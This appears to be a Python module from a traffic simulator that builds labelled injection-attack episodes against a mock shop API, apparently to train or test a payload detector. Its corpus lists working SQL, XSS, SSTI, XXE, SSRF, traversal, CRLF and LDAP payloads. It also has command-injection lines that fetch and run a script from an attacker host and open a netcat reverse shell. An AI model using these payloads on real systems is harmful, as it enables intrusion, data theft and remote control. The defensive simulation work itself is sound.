"""Injection: attackers putting payloads into the API's real parameters (the search
text, sort and filter values, product and order ids in paths, fields of JSON bodies,
a redirect target) and whole XML documents into a route that parses XML.

The corpus is the project's own: a handful of payloads per class, written for this
simulator, covering the shapes a payload detector has to know (boolean, union,
time-based and stacked SQL, comment and encoding evasions, script tags, event
handlers, shell separators, dot segments, internal URLs, template expressions, NoSQL
operators, external entities, header splitting, LDAP filters). A payload is held as
the value the application would see; a client percent-encodes it into a URL the way
that client does (``quote`` for attack tools, form encoding for browsers and
python-requests), unless the payload brings its own encoding (an evasion); a JSON
body carries it raw, JSON-escaped.
"""

from __future__ import annotations

import math
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import NamedTuple
from urllib.parse import quote, quote_plus

import orjson

from ingest.simulator import catalogue, endpoints, network
from ingest.simulator.actor import Client
from ingest.simulator.attacks.base import (
    AttackEpisode,
    EpisodeContext,
    Move,
    hosting_ipv4,
    leaked_username,
    web_user_id,
)
from ingest.simulator.catalogue import PRODUCT_BASE, PRODUCTS
from ingest.simulator.endpoints import Endpoint
from ingest.simulator.identity import issue_jwt, session_id, token
from ingest.simulator.request import SimRequest

# --- the corpus ------------------------------------------------------------------------


class Payload(NamedTuple):
    """One injection payload.

    ``value`` is what the application receives once the URL or JSON is decoded.
    ``wire``, when set, is how it goes into a URL instead of the client's own encoding
    (an encoding evasion). ``operator`` makes it a NoSQL operator: ``name[op]=value``
    in a query, ``{"op": operand}`` in JSON (``operand`` is JSON text). ``delay_s`` is
    how long it stalls a backend that runs it (time-based blind injection).
    """

    family: str
    value: str
    wire: str = ""
    operator: str = ""
    operand: str = ""
    delay_s: float = 0.0


def _family(name: str, *payloads: str | Payload) -> tuple[Payload, ...]:
    return tuple(p if isinstance(p, Payload) else Payload(name, p) for p in payloads)


FAMILIES: tuple[str, ...] = (
    "sqli", "xss", "cmdi", "traversal", "ssrf", "ssti", "nosqli", "xxe", "crlf", "ldap",
)  # fmt: skip

_HOST = "198.51.100.23"  # the attacker's own server, for out-of-band payloads

CORPUS: dict[str, tuple[Payload, ...]] = {
    "sqli": _family(
        "sqli",
        "' OR '1'='1",
        "1 AND 1=1",
        "1' AND 1=2-- -",
        "' oR 'a'='a' #",
        "' UNION SELECT NULL,NULL,NULL-- -",
        "-1 UNION ALL SELECT username,password_hash,email FROM users-- -",
        "1 ORDER BY 12-- -",
        "(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
        "1 AND ASCII(SUBSTRING((SELECT version()),1,1))>52",
        Payload("sqli", "1' AND SLEEP(5)-- -", delay_s=5.0),
        Payload("sqli", "1; SELECT pg_sleep(5)--", delay_s=5.0),
        Payload("sqli", "1'; WAITFOR DELAY '0:0:5'--", delay_s=5.0),
        "1; DROP TABLE orders--",
        "'/**/OR/**/1=1/**/--",
        "1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -",
        "%27%20OR%201%3D1--%20",  # double encoding: still encoded after one decode
    ),
    "xss": _family(
        "xss",
        "<script>alert(1)</script>",
        '"><script>alert(document.domain)</script>',
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "javascript:alert(document.cookie)",
        '" onmouseover="alert(1)',
        "<details open ontoggle=alert(1)>",
        '<iframe src="javascript:alert(1)"></iframe>',
        "<ScRiPt>prompt(1)</sCrIpT>",
        "'-alert(1)-'",
        '<a href="jav&#x61;script:alert(1)">x</a>',
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ),
    "cmdi": _family(
        "cmdi",
        ";id",
        "| cat /etc/passwd",
        "$(id)",
        "`whoami`",
        "&& whoami",
        "& dir C:\\",
        "| type C:\\Windows\\win.ini",
        "\nid",
        Payload("cmdi", "; sleep 5", delay_s=5.0),
        Payload("cmdi", "|| ping -c 5 127.0.0.1", delay_s=4.0),
        Payload("cmdi", "$(sleep${IFS}5)", delay_s=5.0),
        f";curl http://{_HOST}/x.sh|sh",
        f"; nc -e /bin/sh {_HOST} 4444",
    ),
    "traversal": _family(
        "traversal",
        "../../etc/passwd",
        "../../../../../../etc/passwd",
        Payload(
            "traversal",
            "../../../etc/passwd",
            wire="%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        ),
        "..%2f..%2f..%2fetc%2fshadow",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/passwd",
        "/etc/passwd",
        "../../../../proc/self/environ",
        "..;/..;/WEB-INF/web.xml",
        "../../app/.env",
    ),
    "ssrf": _family(
        "ssrf",
        "http://169.254.169.254/latest/meta-data/",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://127.0.0.1:8080/admin",
        "http://localhost:6379/",
        "http://[::1]:80/",
        "http://0x7f000001/",
        "http://2130706433/",
        "gopher://127.0.0.1:6379/_INFO",
        "dict://127.0.0.1:11211/stats",
        "file:///etc/passwd",
        "http://10.244.1.11:8080/internal/config",
    ),
    "ssti": _family(
        "ssti",
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "*{7*7}",
        "${{7*7}}",
        "{{7*'7'}}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ),
    "nosqli": _family(
        "nosqli",
        Payload("nosqli", "x", operator="$ne", operand="null"),
        Payload("nosqli", "", operator="$gt", operand='""'),
        Payload("nosqli", ".*", operator="$regex", operand='".*"'),
        Payload("nosqli", "true", operator="$exists", operand="true"),
        Payload("nosqli", "sleep(1000)", operator="$where", operand='"sleep(1000)"', delay_s=1.0),
        "' || '1'=='1",
        "'; return true; var x='",
        '{"$ne": null}',
        "true, $where: '1 == 1'",
        Payload("nosqli", "';sleep(5000);'", delay_s=5.0),
    ),
    "xxe": _family(
        "xxe",
        '<?xml version="1.0"?><!DOCTYPE shipment [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        "<shipment><order_id>&xxe;</order_id><carrier>ups</carrier></shipment>",
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY xxe SYSTEM '
        '"http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><r>&xxe;</r>',
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % ext SYSTEM "http://{_HOST}/e.dtd"> %ext;]>'
        "<d>1</d>",
        '<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]><lol>&d;</lol>',
        '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY src SYSTEM '
        '"php://filter/convert.base64-encode/resource=index.php">]><order><note>&src;</note></order>',
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY win SYSTEM "file:///c:/windows/win.ini">]>'
        "<foo>&win;</foo>",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY cmd SYSTEM "expect://id">]><x>&cmd;</x>',
        '<shipment xmlns:xi="http://www.w3.org/2001/XInclude"><order_id>'
        '<xi:include parse="text" href="file:///etc/hostname"/></order_id></shipment>',
        '<?xml version="1.0"?><!DOCTYPE user [<!ENTITY env SYSTEM "file:///proc/self/environ">]>'
        "<user><name>&env;</name></user>",
    ),
    "crlf": _family(
        "crlf",
        Payload(
            "crlf",
            "/\r\nSet-Cookie: sid=attacker",
            wire="%2F%0d%0aSet-Cookie:%20sid=attacker",
        ),
        "/account\r\nSet-Cookie: session=0000",
        "\r\nLocation: https://evil.example/",
        "\r\n\r\n<script>alert(1)</script>",
        "\r\nX-Injected: 1",
        "\nSet-Cookie: admin=true",
        "%0d%0aSet-Cookie:x=1",
        "\u560a\u560dSet-Cookie:x=1",  # encodes to bytes that some servers fold into CR LF
        "/\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    ),
    "ldap": _family(
        "ldap",
        "*)(uid=*))(|(uid=*",
        "*",
        "admin*)((|userPassword=*)",
        "*)(|(objectClass=*)",
        "admin)(&)",
        "*))\x00",
        "(|(mail=*))",
        "x*)(|(cn=*)(cn=*",
        "*()|&'",
    ),
}
"""The built-in corpus, by class."""

# --- the API's parameters --------------------------------------------------------------


class Param(NamedTuple):
    """A parameter of a route: its name, where it travels (``path``, ``query``,
    ``json``) and what it normally holds (its *shape*: ``text``, ``number``, ``id``,
    ``enum``, ``url``, ``redirect``, ``account``, ``secret``), which decides how a
    payload in it is answered."""

    name: str
    where: str
    shape: str


@dataclass(frozen=True, slots=True)
class Form:
    """A route that takes parameters, and who may call it: ``auth`` is ``bearer`` (a
    logged-in user), ``key`` (a partner's API key) or empty. ``ok`` is the status of
    an ordinary request (401 for a login with a wrong password); ``xml`` says the
    route also parses XML bodies."""

    endpoint: Endpoint
    params: tuple[Param, ...]
    ok: int = 200
    auth: str = ""
    xml: bool = False

    @property
    def has_body(self) -> bool:
        return any(p.where == "json" for p in self.params)


def _form(
    endpoint: Endpoint, *params: str, ok: int = 200, auth: str = "", xml: bool = False
) -> Form:
    """A form from ``name:where:shape`` specs."""
    specs = tuple(Param(*spec.split(":")) for spec in params)
    return Form(endpoint, specs, ok, auth, xml)


SEARCH = _form(endpoints.SEARCH, "q:query:text", "sort:query:enum", "page:query:number")
LISTING = _form(
    endpoints.PRODUCT_LIST, "category:query:enum", "page:query:number", "page_size:query:number"
)
PRODUCT = _form(endpoints.PRODUCT, "productId:path:id")
REVIEWS = _form(endpoints.PRODUCT_REVIEWS, "productId:path:id", "page:query:number")
ORDER = _form(endpoints.ORDER, "orderId:path:id", auth="bearer")
MY_ORDERS = _form(
    endpoints.USER_ORDERS, "page:query:number", "page_size:query:number", auth="bearer"
)
LOGIN = _form(
    endpoints.LOGIN, "next:query:redirect", "username:json:account", "password:json:secret", ok=401
)
SIGNUP = _form(
    endpoints.SIGNUP, "email:json:account", "name:json:text", "password:json:secret", ok=201
)
RESET = _form(endpoints.PASSWORD_RESET, "email:json:account", ok=202)
CART_ADD = _form(
    endpoints.CART_ADD, "product_id:json:number", "quantity:json:number", ok=201, auth="bearer"
)
CHECKOUT = _form(
    endpoints.ORDER_CREATE,
    "address_id:json:number",
    "coupon:json:text",
    "payment_method:json:enum",
    ok=201,
    auth="bearer",
)
PROFILE = _form(
    endpoints.USER_UPDATE, "name:json:text", "phone:json:text", "avatar_url:json:url", auth="bearer"
)
STOCK = _form(
    endpoints.PARTNER_ITEM_UPDATE,
    "sku:path:id",
    "quantity:json:number",
    "price:json:number",
    "warehouse:json:enum",
    "note:json:text",
    auth="key",
)
SHIPMENT = _form(
    endpoints.PARTNER_SHIPMENT,
    "order_id:json:id",
    "carrier:json:enum",
    "tracking_number:json:text",
    "callback_url:json:url",
    ok=201,
    auth="key",
    xml=True,
)

FORMS: tuple[Form, ...] = (
    SEARCH, LISTING, PRODUCT, REVIEWS, ORDER, MY_ORDERS, LOGIN, SIGNUP, RESET, CART_ADD,
    CHECKOUT, PROFILE, STOCK, SHIPMENT,
)  # fmt: skip
"""Every route an injection episode sends payloads to."""

_SCANNED_READS = (SEARCH, LISTING, PRODUCT, REVIEWS, ORDER, MY_ORDERS)
_SCANNED_WRITES = (LOGIN, SIGNUP, RESET, CART_ADD, CHECKOUT, PROFILE)
_BROWSED = (SEARCH, SEARCH, LISTING, PRODUCT, REVIEWS, LOGIN)

_Value = str | int | float
_ORDINARY: dict[str, Callable[[random.Random], _Value]] = {
    "q": lambda rng: rng.choice(catalogue.SEARCH_PHRASES),
    "sort": lambda rng: rng.choice(catalogue.SORTS),
    "category": lambda rng: rng.choice(catalogue.CATEGORIES),
    "page": lambda rng: str(1 + int(rng.random() * 4)),
    "page_size": lambda rng: rng.choice(("20", "48")),
    "productId": lambda rng: str(PRODUCT_BASE + int(rng.random() * PRODUCTS)),
    "product_id": lambda rng: PRODUCT_BASE + int(rng.random() * PRODUCTS),
    "orderId": lambda rng: str(rng.randrange(1_000_000, 10_000_000)),
    "order_id": lambda rng: rng.randrange(1_000_000, 10_000_000),
    "next": lambda rng: rng.choice(("/account", "/cart", "/orders")),
    "username": leaked_username,
    "email": leaked_username,
    "password": lambda rng: rng.choice(("test", "password", "Passw0rd!", "123456")),
    "name": lambda rng: f"{rng.choice(catalogue.FIRST_NAMES)} {rng.choice(catalogue.LAST_NAMES)}",
    "phone": lambda rng: f"+44 20 7946 {rng.randrange(1000):04d}",
    "avatar_url": lambda rng: f"https://cdn.example.com/avatars/{rng.randrange(10**6)}.png",
    "quantity": lambda rng: 1 + int(rng.random() * 3),
    "address_id": lambda rng: rng.randrange(10_000, 99_999),
    "coupon": lambda rng: rng.choice(("SPRING10", "WELCOME5", "FREESHIP")),
    "payment_method": lambda rng: rng.choice(("card", "paypal")),
    "sku": lambda rng: f"SKU-{100_000 + int(rng.random() * 8_000)}",
    "price": lambda rng: round(5 + rng.random() * 200, 2),
    "warehouse": lambda rng: rng.choice(("main", "east", "west")),
    "note": lambda rng: rng.choice(("restock", "damaged in transit", "")),
    "carrier": lambda rng: rng.choice(("ups", "dhl", "fedex")),
    "tracking_number": lambda rng: f"1Z{rng.randrange(10**15):015d}",
}
"""An ordinary value of each parameter (the attacker's own ids come from the episode)."""

# How the service answers a payload in a parameter of each shape, before it reaches
# anything it could break: (status, weight); 0 stands for the form's ordinary status.
_ANSWERS: dict[str, tuple[tuple[int, float], ...]] = {
    "text": ((0, 0.55), (400, 0.25), (500, 0.15), (403, 0.05)),
    "number": ((400, 0.7), (500, 0.15), (0, 0.15)),
    "id": ((404, 0.45), (400, 0.35), (500, 0.12), (0, 0.08)),
    "enum": ((400, 0.6), (500, 0.2), (0, 0.2)),
    "url": ((400, 0.5), (0, 0.3), (500, 0.1), (403, 0.1)),
    "redirect": ((0, 0.5), (400, 0.4), (500, 0.1)),
    "account": ((0, 0.5), (400, 0.3), (500, 0.2)),
    "secret": ((0, 0.6), (400, 0.2), (500, 0.2)),
    "xml": ((400, 0.45), (500, 0.3), (0, 0.25)),
    "not_xml": ((415, 0.6), (400, 0.3), (500, 0.1)),
}
# Classes that break a query or a parser rather than being echoed: more server errors.
_BREAKING = frozenset(("sqli", "nosqli", "ssti", "xxe", "ldap"))
_DOCUMENT = Param("", "body", "xml")
"""The target of an XML document: the whole body."""


def _answer(rng: random.Random, form: Form, param: Param, payload: Payload) -> int:
    """The status a WAF-less API gives ``payload`` in ``param`` of ``form``.

    >>> rng = random.Random(1)
    >>> answers = {_answer(rng, SEARCH, SEARCH.params[0], CORPUS["sqli"][0]) for _ in range(200)}
    >>> sorted(answers)
    [200, 400, 403, 500]
    """
    shape = param.shape if param is not _DOCUMENT else "xml" if form.xml else "not_xml"
    table = _ANSWERS[shape]
    weights = [w * (2.0 if s == 500 and payload.family in _BREAKING else 1.0) for s, w in table]
    status = rng.choices([s for s, _ in table], weights)[0]
    return status or form.ok


def fits(payload: Payload, param: Param) -> bool:
    """Whether ``payload`` can travel in ``param``: an XML document only as a whole
    body, a NoSQL operator only in a query or JSON, anything else anywhere.

    >>> fits(CORPUS["nosqli"][0], SEARCH.params[0]), fits(CORPUS["nosqli"][0], PRODUCT.params[0])
    (True, False)
    """
    if payload.family == "xxe":
        return param is _DOCUMENT
    if param is _DOCUMENT:
        return False
    return not (payload.operator and param.where == "path")


Encoder = Callable[[str], str]


def tool_encode(value: str) -> str:
    """Percent-encoding as attack tools write it: everything but letters, digits and
    ``-._~``, spaces as ``%20``.

    >>> tool_encode("' OR '1'='1")
    '%27%20OR%20%271%27%3D%271'
    """
    return quote(value, safe="")


def form_encode(value: str) -> str:
    """Percent-encoding as a browser submits a form (and python-requests its
    ``params``): spaces as ``+``.

    >>> form_encode("<svg/onload=alert(1)>")
    '%3Csvg%2Fonload%3Dalert%281%29%3E'
    """
    return quote_plus(value, safe="*")


class Caller(NamedTuple):
    """Who sends an episode's requests: the client, the values it keeps (``fill``) and
    how it percent-encodes a payload."""

    client: Client
    known: dict[str, _Value]
    encode: Encoder


class Shot(NamedTuple):
    """One request of an injection episode: the move, and the body text it carries."""

    move: Move
    body: str = ""
    content_type: str = ""


def fill(
    rng: random.Random,
    form: Form,
    known: dict[str, _Value],
    encode: Encoder,
    *,
    target: Param | None = None,
    payload: Payload | None = None,
) -> tuple[str, str, str, str]:
    """``(path, query, body, content_type)`` of a request to ``form``: ordinary values
    but those ``known`` fixes (the caller's own ``userId`` or ``partnerId``; for a tool,
    the values of the request it replays), and ``payload`` in ``target`` when given.

    >>> rng = random.Random(2)
    >>> sqli, nosqli = CORPUS["sqli"][0], CORPUS["nosqli"][0]
    >>> fill(rng, PRODUCT, {}, tool_encode, target=PRODUCT.params[0], payload=sqli)[:2]
    ('/api/v1/products/%27%20OR%20%271%27%3D%271', '')
    >>> password = LOGIN.params[2]
    >>> _, query, body, kind = fill(
    ...     rng, LOGIN, {"next": "/cart"}, tool_encode, target=password, payload=nosqli
    ... )
    >>> query, orjson.loads(body)["password"], kind
    ('next=%2Fcart', {'$ne': None}, 'application/json')
    """
    if target is _DOCUMENT and payload is not None:
        body, content_type = payload.value, "application/xml"
    else:
        body, content_type = "", ""
    path = form.endpoint.route
    for name in ("userId", "partnerId"):
        path = path.replace(f"{{{name}}}", str(known.get(name, "")))
    query: list[str] = []
    document: dict[str, object] = {}
    for param in form.params:
        if param.where == "json" and body:
            continue  # an XML document replaces the JSON body
        if payload is None or param is not target:
            value = known[param.name] if param.name in known else _ORDINARY[param.name](rng)
            if param.where == "path":
                path = path.replace(f"{{{param.name}}}", str(value))
            elif param.where == "query":
                query.append(f"{param.name}={quote_plus(str(value))}")
            else:
                document[param.name] = value
            continue
        if param.where == "path":
            path = path.replace(f"{{{param.name}}}", payload.wire or quote(payload.value, safe=""))
        elif param.where == "query":
            name = f"{param.name}[{payload.operator}]" if payload.operator else param.name
            query.append(f"{name}={payload.wire or encode(payload.value)}")
        elif payload.operator:
            document[param.name] = {payload.operator: orjson.loads(payload.operand)}
        else:
            document[param.name] = payload.value
    if document:
        body, content_type = orjson.dumps(document).decode(), "application/json"
    return path, "&".join(query), body, content_type


def _user(form: Form, body: str, content_type: str, known: dict[str, _Value]) -> str:
    """The principal a request names: on a login, sign-up or reset the account it names
    (when that is a string, as for benign traffic), otherwise whoever the caller's token
    or key says it is (a logged-in user on a public route too)."""
    if form in (LOGIN, SIGNUP, RESET):
        if content_type != "application/json":
            return ""
        fields = orjson.loads(body)
        attempted = fields.get("username", fields.get("email"))
        return attempted if isinstance(attempted, str) else ""
    return str(known.get("userId") or known.get("partner") or "")


def families_of(payloads: Sequence[Payload]) -> str:
    """The classes among ``payloads``, in corpus order, comma-separated."""
    present = {p.family for p in payloads}
    return ", ".join(f for f in FAMILIES if f in present)


# --- the episode ------------------------------------------------------------------------

SCANNER_AGENTS: tuple[tuple[str, str], ...] = (
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap/1.7"),
    ("sqlmap/1.8.3#stable (https://sqlmap.org)", "sqlmap/1.8"),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "nuclei"),
    ("python-requests/2.31.0", "python-requests"),
)
"""(User-Agent, the short name a description uses)."""

_PARTNER_WORDS = (("bluefin", "kestrel", "oakridge", "harbor"), ("imports", "trading", "supply"))


class Injection(AttackEpisode):
    """Injection payloads in the API's real parameters, every request labelled.

    ``scanner``: a tool (sqlmap, nuclei or a python-requests script) on a rented server
    fires 40-120 payloads of every class at 3-15 a second, parameter after parameter,
    at 2-4 routes (the search text, sort and filter values, product and order ids in
    the path, one JSON write route, which also gets XML documents), with a user's bearer
    token when a route needs one. ``manual``: a person in a browser (session cookie,
    referer, form-encoded queries) tries 5-15 classic payloads by hand on one or two
    parameters, seconds to a minute apart, between 2-5 ordinary requests to the same
    routes, which are labelled too: they are the attacker's (a baseline to compare
    answers with). ``json_api``: a trial partner's integration with its own API key
    sends 20-60 payloads inside JSON bodies of its PUT and POST routes (and XML
    documents to the shipment route, which parses XML). The API has no WAF: answers
    are a mix of 200/201, 400, 404, 415 and 500, and a time-based payload sometimes
    stalls the backend for its delay.
    """

    kind = "injection"
    accepted_kinds = ("injection", "malformed_request", "anomaly")
    variants = ("scanner", "manual", "json_api")
    lane = "surface"
    nominal_s = 300.0

    __slots__ = ("_shots",)

    def __init__(self, context: EpisodeContext) -> None:
        super().__init__(context)
        self._shots: list[Shot] = []
        if self.variant == "manual":
            self._manual()
        elif self.variant == "json_api":
            self._json_api()
        else:
            self._scanner()

    def make(self, i: int, now: float) -> SimRequest:
        request = super().make(i, now)
        shot = self._shots[i]
        if not shot.body:
            return request
        headers = request.headers
        if headers.get("content-type") != shot.content_type:
            headers = {**headers, "content-type": shot.content_type}
        return request._replace(body=shot.body, headers=headers)

    # --- the variants -----------------------------------------------------------------

    def _scanner(self) -> None:
        rng = self.rng
        agent, tool = rng.choice(SCANNER_AGENTS)
        client = self.client(hosting_ipv4(rng), agent)
        forms = [rng.choice(_SCANNED_WRITES), *rng.sample(_SCANNED_READS, rng.randrange(1, 4))]
        known: dict[str, _Value] = {}
        if any(form.auth == "bearer" for form in forms):
            sub = web_user_id(rng)
            known["userId"] = str(sub)
            client.set_header(
                "authorization", f"Bearer {issue_jwt(rng, str(sub), int(self.start_ts))}"
            )
        count = rng.randrange(40, 121)
        rate = 3.0 + 12.0 * rng.random()
        times = self.paced(count, min_gap_s=0.01, span=min(self.context.duration_s, count / rate))
        # It replays one captured request per route, changing one value at a time.
        callers = {
            form: Caller(
                client,
                {**{p.name: _ORDINARY[p.name](rng) for p in form.params}, **known},
                tool_encode,
            )
            for form in forms
        }
        targets = [(form, param) for form in forms for param in form.params]
        targets += [(form, _DOCUMENT) for form in forms if form.has_body]
        rng.shuffle(targets)
        payloads = [rng.choice(CORPUS[family]) for family in FAMILIES]
        everything = [p for family in FAMILIES for p in CORPUS[family]]
        payloads += [rng.choice(everything) for _ in range(len(times) - len(payloads))]
        rng.shuffle(payloads)
        # A tool works through its targets one at a time.
        plan: list[tuple[int, Form, Param, Payload]] = []
        for payload in payloads:
            fitting = [n for n, (_, param) in enumerate(targets) if fits(payload, param)]
            if payload.family == "crlf":
                fitting = [n for n in fitting if targets[n][1].shape == "redirect"] or fitting
            n = rng.choice(fitting)
            plan.append((n, *targets[n], payload))
        plan.sort(key=lambda item: item[0])
        shots = [
            self._shot(callers[form], form, param, payload) for _, form, param, payload in plan
        ]
        self._start(times, shots)
        self.description = (
            f"{client.ip} fires {len(shots)} injection payloads ({families_of(payloads)}) "
            f"at {len(forms)} routes with {tool}"
        )

    def _manual(self) -> None:
        rng = self.rng
        ip = network.residential_ipv4(rng)
        client = self.client(ip, rng.choice(catalogue.BROWSER_AGENTS), protocol="HTTP/2.0")
        client.referers = catalogue.WEB_REFERERS
        client.set_header("cookie", f"sid={session_id(rng)}; consent=1")
        forms = list(dict.fromkeys(rng.choice(_BROWSED) for _ in range(2)))
        targets = [(form, param) for form in forms for param in form.params]
        rng.shuffle(targets)
        targets = targets[: 1 + int(rng.random() < 0.5)]
        caller = Caller(client, {}, form_encode)
        shots: list[Shot] = []
        tried: list[Payload] = []
        ordinary = rng.randrange(2, 6)
        for n in range(rng.randrange(5, 16)):
            if n == 0 or (ordinary > 1 and rng.random() < 0.3):
                form = rng.choice(forms)
                shots.append(self._ordinary(caller, form))
                ordinary -= 1
            form, param = targets[int(rng.random() * len(targets))]
            families = _BY_HAND[param.shape]
            choices = [p for p in CORPUS[rng.choice(families)] if fits(p, param)]
            payload = rng.choice(choices)
            tried.append(payload)
            shots.append(self._shot(caller, form, param, payload))
        for _ in range(ordinary):
            shots.insert(
                1 + int(rng.random() * len(shots)),
                self._ordinary(caller, rng.choice(forms)),
            )
        # Seconds to a minute between requests (log-uniform), squeezed into a short run.
        gaps = [math.exp(math.log(3.0) + rng.random() * math.log(20.0)) for _ in shots]
        scale = min(1.0, 0.95 * self.context.duration_s / sum(gaps))
        times, t = [], self.start_ts
        for gap in gaps:
            times.append(t)
            t += gap * scale
        self._start(times, shots)
        names = " and ".join(dict.fromkeys(param.name for _, param in targets))
        routes = " and ".join(dict.fromkeys(form.endpoint.route for form, _ in targets))
        self.description = (
            f"{ip} tries {len(tried)} injection payloads ({families_of(tried)}) by hand "
            f"on {names} of {routes} from a browser, between "
            f"{len(shots) - len(tried)} ordinary requests"
        )

    def _json_api(self) -> None:
        rng = self.rng
        first, second = _PARTNER_WORDS
        partner = f"{rng.choice(first)}-{rng.choice(second)}"
        partner_id = 5000 + rng.randrange(1000)
        key = f"pk_test_{token(rng, 32)}"
        agent = rng.choice(("python-requests/2.31.0", "axios/1.6.7", f"{partner}-client/0.1.0"))
        client = self.client(network.cloud_ipv4(rng), agent)
        client.set_header("x-api-key", key)
        known: dict[str, _Value] = {
            "partnerId": str(partner_id),
            "partner": partner,
            "api_key": key,
            "callback_url": f"https://{partner}.example/hooks/shipments",
        }
        caller = Caller(client, known, tool_encode)
        count = rng.randrange(20, 61)
        rate = 0.5 + 2.5 * rng.random()
        times = self.paced(count, min_gap_s=0.05, span=min(self.context.duration_s, count / rate))
        targets = [
            (form, p) for form in (STOCK, SHIPMENT) for p in form.params if p.where == "json"
        ]
        targets.append((SHIPMENT, _DOCUMENT))
        payloads = [rng.choice(CORPUS[family]) for family in FAMILIES]
        everything = [p for family in FAMILIES for p in CORPUS[family]]
        payloads += [rng.choice(everything) for _ in range(len(times) - len(payloads))]
        rng.shuffle(payloads)
        shots = []
        for payload in payloads[: len(times)]:
            fitting = [t for t in targets if fits(payload, t[1])]
            if payload.family == "ssrf":
                fitting = [t for t in fitting if t[1].shape == "url"]
            form, param = rng.choice(fitting)
            shots.append(self._shot(caller, form, param, payload))
        self._start(times, shots)
        self.description = (
            f"{partner}'s API key at {client.ip} sends {len(shots)} injection payloads "
            f"({families_of(payloads[: len(times)])}) in JSON and XML bodies to "
            f"{STOCK.endpoint.route} and {SHIPMENT.endpoint.route}"
        )

    # --- helpers ------------------------------------------------------------------------

    def _shot(self, caller: Caller, form: Form, param: Param, payload: Payload) -> Shot:
        """``payload`` in ``param`` of ``form``, and the API's answer."""
        rng = self.rng
        filled = fill(rng, form, caller.known, caller.encode, target=param, payload=payload)
        status = _answer(rng, form, param, payload)
        stall = payload.delay_s if status in (form.ok, 500) and rng.random() < 0.4 else 0.0
        return self._request(caller, form, filled, status, stall)

    def _ordinary(self, caller: Caller, form: Form) -> Shot:
        """An ordinary request to ``form``, answered as usual."""
        filled = fill(self.rng, form, caller.known, caller.encode)
        return self._request(caller, form, filled, form.ok, 0.0)

    def _request(
        self,
        caller: Caller,
        form: Form,
        filled: tuple[str, str, str, str],
        status: int,
        stall_s: float,
    ) -> Shot:
        path, query, body, content_type = filled
        route = form.endpoint
        size = len(body.encode())
        # The route's own numbers with this body's size, slower when the payload stalls it.
        endpoint = Endpoint(
            route.method,
            route.route,
            route.service,
            route.median_ms + 1000.0 * stall_s,
            route.sigma if not stall_s else 0.05,
            route.size,
            (size, size),
        )
        known = caller.known
        user = _user(form, body, content_type, known)
        key = str(known.get("api_key", ""))
        return Shot(
            Move(caller.client, endpoint, path, status, user, query, key), body, content_type
        )

    def _start(self, times: list[float], shots: list[Shot]) -> None:
        shots = shots[: len(times)]
        self._shots = shots
        self.schedule(times, [shot.move for shot in shots])


_BY_HAND: dict[str, tuple[str, ...]] = {
    "text": ("sqli", "sqli", "xss", "xss", "ssti", "cmdi", "nosqli"),
    "number": ("sqli", "sqli", "nosqli"),
    "id": ("sqli", "sqli", "traversal", "cmdi"),
    "enum": ("sqli", "sqli", "xss"),
    "redirect": ("crlf", "crlf", "ssrf", "xss"),
    "account": ("sqli", "nosqli", "ldap"),
    "secret": ("sqli", "nosqli"),
}
"""What a person tries, by hand, in a parameter of each shape."""
